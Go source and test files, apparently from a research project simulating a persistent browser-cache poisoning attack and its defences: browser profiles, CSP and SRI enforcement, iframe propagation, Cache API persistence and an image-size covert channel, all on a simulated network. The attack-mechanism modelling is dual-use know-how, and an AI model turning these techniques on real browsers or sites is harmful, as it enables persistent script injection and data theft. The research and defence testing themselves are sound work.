		return
	}
	crossOrigin := hostOf(url) != e.page().Host
	e.browser().fetch(e.page().Host, url, opts, func(res fetchResult, err error) {
		if err != nil {
			cb(nil, err)
			return
		}
		resp := res.resp
		if crossOrigin && resp.Header.Get("Access-Control-Allow-Origin") != "*" {
			opaque := httpsim.NewResponse(resp.StatusCode, nil)
			opaque.Header = httpsim.Header{}
			cb(opaque, nil)
			return
		}
		cb(resp, nil)
	})
}

// AddIframe appends an iframe and loads the framed page with all its
// subresources — the §VI-B1 cross-domain propagation vector.
func (e *pageEnv) AddIframe(url string) {
	url = normalizeURL(e.page().Host, url)
	el := dom.NewElement("iframe")
	el.SetAttr("src", url)
	e.page().Doc.Body().Append(el)
	e.loader.enqueue(job{kind: dom.ResIframe, url: url, el: el})
}

// AddImage appends an img element; onload receives the dimensions, the
// covert channel's downstream alphabet.
func (e *pageEnv) AddImage(url string, onload func(width, height int, ok bool)) {
	url = normalizeURL(e.page().Host, url)
	el := dom.NewElement("img")
	el.SetAttr("src", url)
	e.page().Doc.Body().Append(el)
	e.loader.enqueue(job{kind: dom.ResImage, url: url, el: el, onImg: onload})
}

// CacheAPIPut anchors a response in the Cache API store (Table III
// persistence).
func (e *pageEnv) CacheAPIPut(url string, resp *httpsim.Response) {
	url = normalizeURL(e.page().Host, url)
	entry := httpcache.EntryFromResponse(e.Now(), url, hostOf(url), resp)
	if entry == nil {
		// Cache API storage ignores no-store; store anyway.
		clean := resp
		cc := clean.Header.Get("Cache-Control")
		clean = &httpsim.Response{StatusCode: resp.StatusCode, Status: resp.Status,
			Header: resp.Header.Clone(), Body: append([]byte(nil), resp.Body...)}
		clean.Header.Set("Cache-Control", "max-age=31536000")
		entry = httpcache.EntryFromResponse(e.Now(), url, hostOf(url), clean)
		_ = cc
	}
	e.browser().cacheAPI.Put(entry)
}
