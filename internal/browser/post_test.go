package browser

import (
	"strings"
	"testing"

	"masterparasite/internal/httpsim"
)

func TestPagePostSendsFormAndCookies(t *testing.T) {
	w := newWeb(t)
	w.addPage("shop.com", "/", `<html><body><form id="buy"></form></body></html>`, nil)
	b := w.browser(t, "Chrome")
	b.Cookies().Set("shop.com", "sid", "abc")

	var page *Page
	b.Visit("shop.com", "/", func(p *Page, err error) {
		if err != nil {
			t.Errorf("visit: %v", err)
			return
		}
		page = p
	})
	w.net.Run(0)
	if page == nil {
		t.Fatal("no page")
	}
	var resp *httpsim.Response
	page.Post("/buy", map[string]string{"item": "42", "qty": "3"}, func(r *httpsim.Response, err error) {
		if err != nil {
			t.Errorf("post: %v", err)
			return
		}
		resp = r
	})
	w.net.Run(0)
	// The fixture's 404 is fine: the assertion is on what the server saw.
	if resp == nil {
		t.Fatal("no post response")
	}
	if w.served["shop.com/buy"] != 1 {
		t.Fatalf("server saw %d posts", w.served["shop.com/buy"])
	}
}

func TestFormCodec(t *testing.T) {
	in := map[string]string{"b": "2", "a": "1&x"}
	enc := EncodeForm(in)
	if !strings.HasPrefix(enc, "a=") {
		t.Fatalf("keys not sorted: %q", enc)
	}
	out := DecodeForm([]byte(enc))
	if out["a"] != "1&x" || out["b"] != "2" {
		t.Fatalf("decode = %v", out)
	}
	if len(DecodeForm(nil)) != 0 {
		t.Fatal("empty decode not empty")
	}
}

func TestDefenseRandomQueryPreventsCachedScriptReuse(t *testing.T) {
	// §VIII: with the random-query defence every script load is a network
	// fetch under a fresh key, so a poisoned cache entry is never re-hit.
	w := newWeb(t)
	w.addPage("site.com", "/", `<html><body><script src="/app.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	w.addPage("site.com", "/app.js", "genuine", nil)
	b := w.browser(t, "Chrome")
	b.DefenseRandomQuery = true

	// Poison the plain-key cache entry directly.
	poisoned := httpsim.NewResponse(200, []byte("POISON"))
	poisoned.Header.Set("Cache-Control", "max-age=31536000")
	b.Cache().Put("site.com", mustEntry(t, "site.com/app.js", poisoned))

	page := w.visit(t, b, "site.com", "/")
	if len(page.Scripts) != 1 {
		t.Fatalf("scripts = %d", len(page.Scripts))
	}
	if string(page.Scripts[0].Content) != "genuine" {
		t.Fatalf("executed %q; defence failed to bypass the poisoned entry", page.Scripts[0].Content)
	}
	// Each page load fetches fresh: two visits, two network fetches.
	before := b.NetFetches()
	w.visit(t, b, "site.com", "/")
	if b.NetFetches() <= before {
		t.Fatal("second visit did not refetch the script")
	}
}
