// Package browser implements the victim-side browser engine: page loading
// over the simulated network, the HTTP cache / Cache API / cookie stores,
// script execution via the script runtime, Same-Origin-Policy and CSP
// enforcement, and the refresh actions surveyed in Table III.
//
// Six behavioural profiles model the browsers evaluated in the paper
// (Tables I and II). Profiles encode *behaviour* (cache size, replacement
// policy, Cache API support, IE's memory ballooning); the experiment code
// then observes outcomes rather than hard-coding the published table.
package browser

import (
	"fmt"

	"masterparasite/internal/httpcache"
)

// OS is a client operating system from Table II.
type OS string

// Operating systems of the Table II evaluation.
const (
	Win10   OS = "Win10"
	MacOS   OS = "MacOS"
	Linux   OS = "Linux"
	Android OS = "Android"
	IOS     OS = "iOS"
)

// AllOSes lists the Table II rows in order.
func AllOSes() []OS { return []OS{Win10, MacOS, Linux, Android, IOS} }

// Profile is the behavioural description of one browser build.
type Profile struct {
	// Name and Version identify the row of Table I / column of Table II.
	Name    string
	Version string
	// Incognito marks the private-browsing variant (Chrome*).
	Incognito bool
	// CacheSize is the default disk/memory cache budget in bytes
	// (Table I column "Size").
	CacheSize int64
	// SizeNote is the human-readable size with the paper's footnotes.
	SizeNote string
	// Policy is the cache replacement policy.
	Policy httpcache.Policy
	// Ballooning disables eviction and lets memory grow unboundedly —
	// Internet Explorer's pathology ("DOS on memory", Table I).
	Ballooning bool
	// MemoryLimit is the point at which the OS kills a ballooning
	// browser's processes.
	MemoryLimit int64
	// InterDomainShared reports whether one shared budget covers all
	// domains, so a flood from attacker.com evicts a.com's objects
	// (Table I column "I.D.").
	InterDomainShared bool
	// SupportsCacheAPI gates the Table III persistence anchor (IE: n/a).
	SupportsCacheAPI bool
	// SlowEviction notes a responsiveness penalty while evicting
	// (Firefox: "performance impact").
	SlowEviction bool
	// Remark reproduces the Table I remark column.
	Remark string
	// OSes is the Table II availability row: which OSes this browser
	// ships on.
	OSes map[OS]bool
	// PartitionedCache keys cache entries by top-level site (§VIII
	// countermeasure; off in all 2020-era defaults).
	PartitionedCache bool
}

// UserAgent renders a stable UA string for the profile.
func (p Profile) UserAgent() string {
	if p.Incognito {
		return fmt.Sprintf("%s/%s (incognito)", p.Name, p.Version)
	}
	return fmt.Sprintf("%s/%s", p.Name, p.Version)
}

// RunsOn reports Table II availability.
func (p Profile) RunsOn(os OS) bool { return p.OSes[os] }

const (
	mib = 1 << 20
	mb  = 1000 * 1000
)

// Profiles returns the browser population of the evaluation, in the order
// of Table I with Safari appended (Safari appears only in Table II).
func Profiles() []Profile {
	return []Profile{
		{
			Name: "Chrome", Version: "81.0.4044.122",
			CacheSize: 320 * mib, SizeNote: "320MiB†",
			Policy:            httpcache.LRU,
			InterDomainShared: true,
			SupportsCacheAPI:  true,
			Remark:            "†from Chromium",
			OSes:              map[OS]bool{Win10: true, MacOS: true, Linux: true, Android: true, IOS: true},
		},
		{
			Name: "Chrome", Version: "81.0.4044.122", Incognito: true,
			CacheSize: 320 * mib, SizeNote: "—",
			Policy:            httpcache.LRU,
			InterDomainShared: true,
			SupportsCacheAPI:  true,
			Remark:            "*incognito mode",
			OSes:              map[OS]bool{Win10: true, MacOS: true, Linux: true, Android: true, IOS: true},
		},
		{
			Name: "Edge", Version: "84.0.522.59",
			CacheSize: 320 * mib, SizeNote: "320MiB†",
			Policy:            httpcache.LRU,
			InterDomainShared: true,
			SupportsCacheAPI:  true,
			Remark:            "†from Chromium",
			OSes:              map[OS]bool{Win10: true},
		},
		{
			Name: "IE", Version: "11.1365.17134.0",
			CacheSize: 330 * mb, SizeNote: "330MB",
			Policy:            httpcache.FIFO,
			Ballooning:        true,
			MemoryLimit:       512 * mb,
			InterDomainShared: false,
			SupportsCacheAPI:  false,
			Remark:            "DOS on memory",
			OSes:              map[OS]bool{Win10: true},
		},
		{
			Name: "Firefox", Version: "75.0",
			CacheSize: 256 * mb, SizeNote: "256MB",
			Policy:            httpcache.LRU,
			InterDomainShared: true,
			SupportsCacheAPI:  true,
			SlowEviction:      true,
			Remark:            "performance impact",
			OSes:              map[OS]bool{Win10: true, MacOS: true, Linux: true, Android: true, IOS: true},
		},
		{
			Name: "Opera", Version: "68.0.3618.56",
			CacheSize: 320 * mib, SizeNote: "320MiB†",
			Policy:            httpcache.LRU,
			InterDomainShared: true,
			SupportsCacheAPI:  true,
			Remark:            "†from Chromium",
			OSes:              map[OS]bool{Win10: true, MacOS: true, Linux: true, Android: true, IOS: true},
		},
		{
			Name: "Safari", Version: "13.1",
			CacheSize: 256 * mb, SizeNote: "n/a",
			Policy:            httpcache.LRU,
			InterDomainShared: true,
			SupportsCacheAPI:  true,
			OSes:              map[OS]bool{Win10: true, MacOS: true, IOS: true},
		},
	}
}

// ProfileByName finds a profile ("Chrome", "Chrome*" for incognito, "IE",
// "Edge", "Firefox", "Opera", "Safari").
func ProfileByName(name string) (Profile, error) {
	incognito := false
	if len(name) > 0 && name[len(name)-1] == '*' {
		incognito = true
		name = name[:len(name)-1]
	}
	for _, p := range Profiles() {
		if p.Name == name && p.Incognito == incognito {
			return p, nil
		}
	}
	return Profile{}, fmt.Errorf("browser: unknown profile %q", name)
}

// TableIProfiles returns the profiles evaluated in Table I (no Safari).
func TableIProfiles() []Profile {
	var out []Profile
	for _, p := range Profiles() {
		if p.Name == "Safari" {
			continue
		}
		out = append(out, p)
	}
	return out
}

// TableIIBrowsers returns the browser columns of Table II (no incognito
// variant; the injection result does not depend on the private mode).
func TableIIBrowsers() []Profile {
	var out []Profile
	for _, p := range Profiles() {
		if p.Incognito {
			continue
		}
		out = append(out, p)
	}
	return out
}
