package browser

import (
	"strings"
)

// CSPHeader names, including the deprecated variants counted in Fig. 5.
const (
	CSPHeader           = "Content-Security-Policy"
	CSPHeaderDeprecated = "X-Content-Security-Policy"
	CSPHeaderWebkit     = "X-Webkit-Csp"
)

// CSP is a parsed Content-Security-Policy.
type CSP struct {
	// Present reports whether any CSP header was supplied.
	Present bool
	// Deprecated reports the header arrived under a legacy name.
	Deprecated bool
	// Directives maps directive name to its source list.
	Directives map[string][]string
}

// ParseCSP parses a policy value ("" yields an absent policy).
func ParseCSP(value string) CSP {
	if strings.TrimSpace(value) == "" {
		return CSP{}
	}
	c := CSP{Present: true, Directives: make(map[string][]string)}
	for _, part := range strings.Split(value, ";") {
		fields := strings.Fields(part)
		if len(fields) == 0 {
			continue
		}
		name := strings.ToLower(fields[0])
		c.Directives[name] = fields[1:]
	}
	return c
}

// CSPFromHeaders extracts the effective policy from response headers,
// honouring the deprecated names (Fig. 5's version pie chart).
func CSPFromHeaders(get func(string) string) CSP {
	if v := get(CSPHeader); v != "" {
		return ParseCSP(v)
	}
	for _, h := range []string{CSPHeaderDeprecated, CSPHeaderWebkit} {
		if v := get(h); v != "" {
			c := ParseCSP(v)
			c.Deprecated = true
			return c
		}
	}
	return CSP{}
}

// sourcesFor resolves a directive with default-src fallback.
func (c CSP) sourcesFor(directive string) ([]string, bool) {
	if !c.Present {
		return nil, false
	}
	if s, ok := c.Directives[directive]; ok {
		return s, true
	}
	if s, ok := c.Directives["default-src"]; ok {
		return s, true
	}
	return nil, false
}

// Allows reports whether loading from origin is permitted for the
// directive (e.g. "img-src", "frame-src", "connect-src", "script-src") on
// a page served from pageOrigin. An absent policy allows everything —
// which the §VIII measurement shows is the common case (CSP on only
// ~4.33% of pages).
func (c CSP) Allows(directive, origin, pageOrigin string) bool {
	sources, ok := c.sourcesFor(directive)
	if !ok {
		return true
	}
	for _, s := range sources {
		switch strings.ToLower(s) {
		case "'none'":
			return false
		case "*":
			// The wildcard misconfiguration called out in §VIII:
			// "'connect-src *;' ... simply allows every connect-src".
			return true
		case "'self'":
			if origin == pageOrigin {
				return true
			}
		default:
			if matchCSPHost(s, origin) {
				return true
			}
		}
	}
	return false
}

// Wildcard reports whether the directive is configured with a bare "*"
// (the misconfiguration statistic of Fig. 5).
func (c CSP) Wildcard(directive string) bool {
	sources, ok := c.Directives[directive]
	if !ok {
		return false
	}
	for _, s := range sources {
		if s == "*" {
			return true
		}
	}
	return false
}

// HasDirective reports whether the directive is explicitly configured.
func (c CSP) HasDirective(directive string) bool {
	_, ok := c.Directives[directive]
	return ok
}

func matchCSPHost(pattern, origin string) bool {
	pattern = strings.TrimPrefix(strings.TrimPrefix(pattern, "https://"), "http://")
	origin = strings.TrimPrefix(strings.TrimPrefix(origin, "https://"), "http://")
	if strings.HasPrefix(pattern, "*.") {
		return strings.HasSuffix(origin, pattern[1:]) // ".example.com"
	}
	return pattern == origin
}
