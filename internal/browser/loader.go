package browser

import (
	"fmt"
	"strings"

	"masterparasite/internal/cnc"
	"masterparasite/internal/dom"
	"masterparasite/internal/script"
)

// scriptRuntime aliases the script runtime so Browser can re-export it.
type scriptRuntime = script.Runtime

func newScriptRuntime() *script.Runtime { return script.NewRuntime() }

// maxFrameDepth bounds recursive iframe loading.
const maxFrameDepth = 3

// Page is one loaded document with everything the loader pulled in.
type Page struct {
	URL  string
	Host string
	Doc  *dom.Document
	CSP  CSP
	// Scripts lists every script body that was fetched and considered
	// for execution, in order.
	Scripts []*script.Script
	// Frames lists pages loaded through iframes (§VI-B1 propagation).
	Frames []*Page
	// ExecErrors collects script behaviour failures (the page survives).
	ExecErrors []error

	browser *Browser
	loader  *loader
}

// VisitOpts tunes a page load.
type VisitOpts struct {
	// HardReload bypasses the HTTP cache (Ctrl+F5). Cache-API-anchored
	// content still serves — the Table III result.
	HardReload bool
	// OnDocument runs after the HTML is parsed but before subresources
	// load and scripts execute — where an application's server-delivered
	// inline wiring (form submit handlers) takes effect.
	OnDocument func(*Page)
}

// Visit loads host+path as a top-level navigation. cb runs inside the
// event loop once every subresource has settled.
func (b *Browser) Visit(host, path string, cb func(*Page, error)) {
	b.visit(host, path, VisitOpts{}, 0, cb)
}

// VisitWith loads a page with explicit options.
func (b *Browser) VisitWith(host, path string, opts VisitOpts, cb func(*Page, error)) {
	b.visit(host, path, opts, 0, cb)
}

func (b *Browser) visit(host, path string, opts VisitOpts, depth int, cb func(*Page, error)) {
	fo := fetchOpts{bypassCache: opts.HardReload}
	b.fetch(host, host+path, fo, func(res fetchResult, err error) {
		if err != nil {
			cb(nil, fmt.Errorf("visit %s%s: %w", host, path, err))
			return
		}
		doc := dom.ParseHTML(host+path, res.resp.Body)
		page := &Page{
			URL:     host + path,
			Host:    host,
			Doc:     doc,
			CSP:     CSPFromHeaders(res.resp.Header.Get),
			browser: b,
		}
		l := &loader{b: b, page: page, opts: fo, depth: depth, onDone: cb}
		page.loader = l
		if opts.OnDocument != nil {
			opts.OnDocument(page)
		}
		l.enqueueDocument(doc)
		l.step()
	})
}

// job is one pending subresource load.
type job struct {
	kind   dom.ResourceKind
	url    string
	el     *dom.Element
	inline []byte
	onImg  func(w, h int, ok bool)
}

type loader struct {
	b     *Browser
	page  *Page
	opts  fetchOpts
	depth int

	queue     []job
	running   bool
	doneFired bool
	onDone    func(*Page, error)
}

// enqueueDocument walks the DOM in document order and queues external and
// inline work.
func (l *loader) enqueueDocument(doc *dom.Document) {
	doc.Root.Walk(func(e *dom.Element) {
		switch e.Tag {
		case "script":
			if src := e.Attr("src"); src != "" {
				l.queue = append(l.queue, job{kind: dom.ResScript, url: normalizeURL(l.page.Host, src), el: e})
			} else if e.Text != "" {
				l.queue = append(l.queue, job{kind: dom.ResScript, inline: []byte(e.Text), el: e})
			}
		case "img":
			if src := e.Attr("src"); src != "" {
				l.queue = append(l.queue, job{kind: dom.ResImage, url: normalizeURL(l.page.Host, src), el: e})
			}
		case "link":
			if e.Attr("rel") == "stylesheet" && e.Attr("href") != "" {
				l.queue = append(l.queue, job{kind: dom.ResStylesheet, url: normalizeURL(l.page.Host, e.Attr("href")), el: e})
			}
		case "iframe":
			if src := e.Attr("src"); src != "" {
				l.queue = append(l.queue, job{kind: dom.ResIframe, url: normalizeURL(l.page.Host, src), el: e})
			}
		}
	})
}

// enqueue adds a dynamic job (from script execution) and resumes.
func (l *loader) enqueue(j job) {
	l.queue = append(l.queue, j)
	l.step()
}

func (l *loader) finish(err error) {
	if l.doneFired {
		return
	}
	l.doneFired = true
	if l.onDone != nil {
		l.onDone(l.page, err)
	}
}

// step processes the queue one job at a time; each completion re-enters
// step via the event loop so the callback stack stays flat.
func (l *loader) step() {
	if l.running {
		return
	}
	if len(l.queue) == 0 {
		l.finish(nil)
		return
	}
	j := l.queue[0]
	l.queue = l.queue[1:]
	l.running = true
	resume := func() {
		l.running = false
		l.b.net.Schedule(0, l.step)
	}
	switch {
	case j.kind == dom.ResScript && j.inline != nil:
		l.execScript(j, j.inline)
		resume()
	case j.kind == dom.ResScript:
		if !l.cspAllows("script-src", j.url) {
			resume()
			return
		}
		if l.b.DefenseRandomQuery && !strings.Contains(j.url, "?") {
			// §VIII countermeasure: every script request carries a unique
			// query, so the (possibly poisoned) cached copy is never hit.
			l.b.defenseCounter++
			j.url = fmt.Sprintf("%s?fresh=%d", j.url, l.b.defenseCounter)
		}
		l.b.fetch(l.page.Host, j.url, l.opts, func(res fetchResult, err error) {
			if err == nil {
				l.execScript(j, res.resp.Body)
			}
			resume()
		})
	case j.kind == dom.ResImage:
		if !l.cspAllows("img-src", j.url) {
			if j.onImg != nil {
				j.onImg(0, 0, false)
			}
			resume()
			return
		}
		l.b.fetch(l.page.Host, j.url, l.opts, func(res fetchResult, err error) {
			if j.onImg != nil {
				if err != nil {
					j.onImg(0, 0, false)
				} else {
					w, h := imageDims(res.resp.Body)
					j.onImg(w, h, true)
				}
			}
			resume()
		})
	case j.kind == dom.ResStylesheet:
		l.b.fetch(l.page.Host, j.url, l.opts, func(fetchResult, error) { resume() })
	case j.kind == dom.ResIframe:
		if l.depth >= maxFrameDepth || !l.cspAllows("frame-src", j.url) {
			resume()
			return
		}
		l.b.visit(hostOf(j.url), pathOf(j.url), VisitOpts{HardReload: l.opts.bypassCache},
			l.depth+1, func(sub *Page, err error) {
				if err == nil && sub != nil {
					l.page.Frames = append(l.page.Frames, sub)
				}
				resume()
			})
	default:
		resume()
	}
}

func (l *loader) cspAllows(directive, url string) bool {
	if !l.b.EnforceCSP {
		return true
	}
	if l.page.CSP.Allows(directive, hostOf(url), l.page.Host) {
		return true
	}
	l.b.cspBlocked++
	return false
}

// execScript applies SRI, records the script, and dispatches behaviours.
func (l *loader) execScript(j job, content []byte) {
	sc := &script.Script{Content: content}
	if j.url != "" {
		sc.URL = j.url
	} else {
		sc.URL = l.page.URL + "#inline"
	}
	if j.el != nil {
		if integrity := j.el.Attr("integrity"); integrity != "" {
			want := strings.TrimPrefix(integrity, "sha256-")
			if sc.SHA256() != want {
				l.b.sriBlocked++
				return // SRI blocks execution of the tampered script
			}
		}
	}
	l.page.Scripts = append(l.page.Scripts, sc)
	env := &pageEnv{loader: l, scriptURL: sc.URL}
	if _, err := l.b.runtime.Execute(env, content); err != nil {
		l.page.ExecErrors = append(l.page.ExecErrors, err)
	}
}

// imageDims extracts the cross-origin-visible dimensions of an image
// body. SVG channel images decode exactly; anything else reports 1x1
// (a tracking pixel's worth of information).
func imageDims(body []byte) (int, int) {
	if d, err := cnc.ParseSVG(body); err == nil {
		return int(d.W), int(d.H)
	}
	return 1, 1
}
