package browser

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"masterparasite/internal/cnc"
	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/netsim"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
)

// web is a test fixture: one server address hosting any number of vhosts.
type web struct {
	net    *netsim.Network
	seg    *netsim.Segment
	pages  map[string]*httpsim.Response // "host/path" → response
	served map[string]int
}

func newWeb(t *testing.T) *web {
	t.Helper()
	w := &web{
		net:    netsim.New(),
		pages:  make(map[string]*httpsim.Response),
		served: make(map[string]int),
	}
	w.seg = w.net.MustSegment("wifi", time.Millisecond)
	srvIfc := w.seg.MustAttach("webserver", 4*time.Millisecond, nil)
	stack := tcpsim.NewStack(w.net, srvIfc, tcpsim.WithSeed(99))
	handler := func(req *httpsim.Request) *httpsim.Response {
		key := req.Host + req.Path
		w.served[key]++
		if resp, ok := w.pages[key]; ok {
			// If-None-Match revalidation.
			if inm := req.Header.Get("If-None-Match"); inm != "" && inm == resp.Header.Get("Etag") {
				return httpsim.NewResponse(304, nil)
			}
			clone := httpsim.NewResponse(resp.StatusCode, append([]byte(nil), resp.Body...))
			clone.Header = resp.Header.Clone()
			return clone
		}
		// Fall back to name-matching ignoring the query string, so
		// cache-buster URLs still resolve to the object.
		if i := strings.IndexByte(key, '?'); i >= 0 {
			if resp, ok := w.pages[key[:i]]; ok {
				clone := httpsim.NewResponse(resp.StatusCode, append([]byte(nil), resp.Body...))
				clone.Header = resp.Header.Clone()
				return clone
			}
		}
		return httpsim.NewResponse(404, []byte("not found"))
	}
	if _, err := httpsim.NewServer(stack, 80, handler); err != nil {
		t.Fatalf("web server: %v", err)
	}
	return w
}

func (w *web) addPage(host, path, body string, hdr map[string]string) {
	resp := httpsim.NewResponse(200, []byte(body))
	for k, v := range hdr {
		resp.Header.Set(k, v)
	}
	if !resp.Header.Has("Cache-Control") {
		resp.Header.Set("Cache-Control", "max-age=3600")
	}
	w.pages[host+path] = resp
}

func (w *web) resolver() Resolver {
	return func(host string) (Endpoint, bool) {
		return Endpoint{Addr: "webserver", Port: 80}, true
	}
}

func (w *web) browser(t *testing.T, name string) *Browser {
	t.Helper()
	p, err := ProfileByName(name)
	if err != nil {
		t.Fatal(err)
	}
	b, err := New(w.net, Config{
		Profile: p, OS: Win10, Segment: w.seg,
		Addr: netsim.Addr("victim-" + name), Resolver: w.resolver(), Seed: 7,
	})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func (w *web) visit(t *testing.T, b *Browser, host, path string) *Page {
	t.Helper()
	var page *Page
	var verr error
	b.Visit(host, path, func(p *Page, err error) { page, verr = p, err })
	w.net.Run(0)
	if verr != nil {
		t.Fatalf("visit %s%s: %v", host, path, verr)
	}
	if page == nil {
		t.Fatalf("visit %s%s: no page", host, path)
	}
	return page
}

func TestVisitLoadsAndCachesResources(t *testing.T) {
	w := newWeb(t)
	w.addPage("site.com", "/", `<html><body><script src="/app.js"></script><img src="/logo.png"></body></html>`, nil)
	w.addPage("site.com", "/app.js", "var a=1;", map[string]string{"Content-Type": "application/javascript"})
	w.addPage("site.com", "/logo.png", "PNGDATA", nil)

	b := w.browser(t, "Chrome")
	page := w.visit(t, b, "site.com", "/")
	if len(page.Scripts) != 1 || string(page.Scripts[0].Content) != "var a=1;" {
		t.Fatalf("scripts = %+v", page.Scripts)
	}
	if !b.Cache().Contains("site.com", "site.com/app.js") {
		t.Fatal("script not cached")
	}
	first := b.NetFetches()

	// Second visit: everything served from cache.
	w.visit(t, b, "site.com", "/")
	if b.NetFetches() != first {
		t.Fatalf("second visit hit network: %d → %d", first, b.NetFetches())
	}
	if b.CacheServes() == 0 {
		t.Fatal("no cache serves recorded")
	}
}

func TestConditionalRevalidation304(t *testing.T) {
	w := newWeb(t)
	w.addPage("site.com", "/lib.js", "lib", map[string]string{
		"Cache-Control": "max-age=1", "Etag": `"v1"`,
	})
	w.addPage("site.com", "/", `<html><body><script src="/lib.js"></script></body></html>`, nil)
	b := w.browser(t, "Chrome")
	w.visit(t, b, "site.com", "/")
	// Let the entry go stale, then revisit: expect an If-None-Match
	// round trip answered 304, serving from cache.
	w.net.RunUntil(w.net.Now() + 5*time.Second)
	w.addPage("site.com", "/", `<html><body><script src="/lib.js"></script></body></html>`,
		map[string]string{"Cache-Control": "max-age=0"})
	page := w.visit(t, b, "site.com", "/")
	if len(page.Scripts) != 1 || string(page.Scripts[0].Content) != "lib" {
		t.Fatal("revalidated script lost")
	}
}

func TestCacheBusterBypassesCache(t *testing.T) {
	w := newWeb(t)
	w.addPage("site.com", "/app.js", "orig", nil)
	b := w.browser(t, "Chrome")
	got := ""
	b.fetch("site.com", "site.com/app.js?t=12345", fetchOpts{}, func(res fetchResult, err error) {
		if err != nil {
			t.Errorf("fetch: %v", err)
			return
		}
		got = string(res.resp.Body)
	})
	w.net.Run(0)
	if got != "orig" {
		t.Fatalf("cache-buster fetch got %q", got)
	}
	// Distinct cache keys: both URLs now independently cached.
	if !b.Cache().Contains("site.com", "site.com/app.js?t=12345") {
		t.Fatal("query URL not cached under its own key")
	}
}

func TestScriptBehaviourExecutes(t *testing.T) {
	w := newWeb(t)
	infected := script.Embed([]byte("var x=1;"), "probe", "payload-7")
	w.addPage("site.com", "/", `<html><body><script src="/x.js"></script></body></html>`, nil)
	w.pages["site.com/x.js"] = httpsim.NewResponse(200, infected)
	w.pages["site.com/x.js"].Header.Set("Cache-Control", "max-age=60")

	b := w.browser(t, "Chrome")
	var sawPayload, sawOrigin string
	b.ScriptRuntime().Register("probe", func(env script.Env, payload string) error {
		sawPayload = payload
		sawOrigin = env.PageHost()
		env.SetCookie("mark", "1")
		env.LocalStorage()["k"] = "v"
		return nil
	})
	w.visit(t, b, "site.com", "/")
	if sawPayload != "payload-7" || sawOrigin != "site.com" {
		t.Fatalf("behaviour saw payload=%q origin=%q", sawPayload, sawOrigin)
	}
	if v, ok := b.Cookies().Get("site.com", "mark"); !ok || v != "1" {
		t.Fatal("SetCookie failed")
	}
	if b.LocalStorage("site.com")["k"] != "v" {
		t.Fatal("localStorage failed")
	}
}

func TestSOPCookieIsolation(t *testing.T) {
	w := newWeb(t)
	w.addPage("a.com", "/", `<html><body><script src="/s.js"></script></body></html>`, nil)
	w.pages["a.com/s.js"] = httpsim.NewResponse(200, script.Embed(nil, "spy", ""))
	b := w.browser(t, "Chrome")
	b.Cookies().Set("bank.com", "session", "secret")
	var ownCookies, foreignCookies string
	b.ScriptRuntime().Register("spy", func(env script.Env, _ string) error {
		env.SetCookie("own", "1")
		ownCookies = env.Cookies("a.com")
		foreignCookies = env.Cookies("bank.com")
		return nil
	})
	w.visit(t, b, "a.com", "/")
	if !strings.Contains(ownCookies, "own=1") {
		t.Fatalf("own cookies = %q", ownCookies)
	}
	if foreignCookies != "" {
		t.Fatalf("SOP violated: read %q from bank.com", foreignCookies)
	}
}

func TestSRIBlocksTamperedScript(t *testing.T) {
	w := newWeb(t)
	genuine := &script.Script{Content: []byte("genuine()")}
	html := fmt.Sprintf(`<html><body><script src="/g.js" integrity="sha256-%s"></script></body></html>`, genuine.SHA256())
	w.addPage("site.com", "/", html, nil)
	w.addPage("site.com", "/g.js", "TAMPERED()", nil)
	b := w.browser(t, "Chrome")
	page := w.visit(t, b, "site.com", "/")
	if len(page.Scripts) != 0 {
		t.Fatal("tampered script executed despite SRI")
	}
	if b.SRIBlocked() != 1 {
		t.Fatalf("sri blocked = %d", b.SRIBlocked())
	}
	// Matching content passes.
	w.addPage("site.com", "/g.js", "genuine()", nil)
	b2 := w.browser(t, "Firefox")
	page2 := w.visit(t, b2, "site.com", "/")
	if len(page2.Scripts) != 1 {
		t.Fatal("genuine script blocked")
	}
}

func TestCSPBlocksCrossOriginFrame(t *testing.T) {
	w := newWeb(t)
	w.addPage("strict.com", "/", `<html><body><script src="/s.js"></script></body></html>`,
		map[string]string{"Content-Security-Policy": "default-src 'self'"})
	w.pages["strict.com/s.js"] = httpsim.NewResponse(200, script.Embed(nil, "prop", ""))
	w.pages["strict.com/s.js"].Header.Set("Cache-Control", "max-age=60")
	w.addPage("victim.com", "/", `<html><body>target</body></html>`, nil)

	b := w.browser(t, "Chrome")
	b.ScriptRuntime().Register("prop", func(env script.Env, _ string) error {
		env.AddIframe("victim.com/")
		return nil
	})
	page := w.visit(t, b, "strict.com", "/")
	if len(page.Frames) != 0 {
		t.Fatal("CSP default-src 'self' allowed a cross-origin iframe")
	}
	if b.CSPBlocked() == 0 {
		t.Fatal("no CSP block recorded")
	}

	// Without enforcement (headers stripped by the attacker) it works.
	b2 := w.browser(t, "Firefox")
	b2.ScriptRuntime().Register("prop", func(env script.Env, _ string) error {
		env.AddIframe("victim.com/")
		return nil
	})
	b2.EnforceCSP = false
	page2 := w.visit(t, b2, "strict.com", "/")
	if len(page2.Frames) != 1 {
		t.Fatal("iframe propagation failed with CSP off")
	}
}

func TestIframeLoadsFramedOriginResources(t *testing.T) {
	w := newWeb(t)
	w.addPage("outer.com", "/", `<html><body><iframe src="inner.com/"></iframe></body></html>`, nil)
	w.addPage("inner.com", "/", `<html><body><script src="/inner.js"></script></body></html>`, nil)
	w.addPage("inner.com", "/inner.js", "inner", nil)
	b := w.browser(t, "Chrome")
	page := w.visit(t, b, "outer.com", "/")
	if len(page.Frames) != 1 {
		t.Fatalf("frames = %d", len(page.Frames))
	}
	if !b.Cache().Contains("outer.com", "inner.com/inner.js") {
		t.Fatal("framed origin's script not cached")
	}
}

func TestHardReloadBypassesHTTPCacheButNotCacheAPI(t *testing.T) {
	w := newWeb(t)
	w.addPage("site.com", "/", `<html><body><script src="/app.js"></script></body></html>`, nil)
	w.addPage("site.com", "/app.js", "v1", nil)
	b := w.browser(t, "Chrome")
	w.visit(t, b, "site.com", "/")

	// Server now serves v2; a plain visit still sees cached v1.
	w.addPage("site.com", "/app.js", "v2", nil)
	page := w.visit(t, b, "site.com", "/")
	if string(page.Scripts[0].Content) != "v1" {
		t.Fatal("plain reload should serve from cache")
	}
	// Hard reload fetches v2.
	var hard *Page
	b.VisitWith("site.com", "/", VisitOpts{HardReload: true}, func(p *Page, err error) { hard = p })
	w.net.Run(0)
	if hard == nil || string(hard.Scripts[0].Content) != "v2" {
